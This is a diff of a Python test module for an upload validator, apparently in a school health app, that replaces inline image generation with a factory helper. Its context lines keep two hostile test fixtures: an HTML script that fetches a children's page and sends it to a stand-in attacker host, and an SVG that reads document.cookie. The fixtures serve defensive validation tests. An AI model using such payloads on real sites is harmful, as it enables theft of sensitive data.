@@ -18,15 +18,14 @@ from PIL import Image
 from campus.roles import Role
 from campus.uploads import IMAGE, PDF, UploadValidator, validate_upload
 from health.models import MedicationRequest
+from tests import factories
 
 HTML = b"<html><body><script>fetch('/children/').then(r=>r.text()).then(t=>location='//evil.example/?'+t)</script>"
 SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.cookie)</script></svg>'
 
 
 def image_bytes(fmt="PNG", size=(40, 30)) -> bytes:
-    buffer = io.BytesIO()
-    Image.new("RGB", size, (200, 30, 30)).save(buffer, fmt)
-    return buffer.getvalue()
+    return factories.make_image(fmt, size, (200, 30, 30))
 
 
 def upload(name, content, content_type="application/octet-stream"):
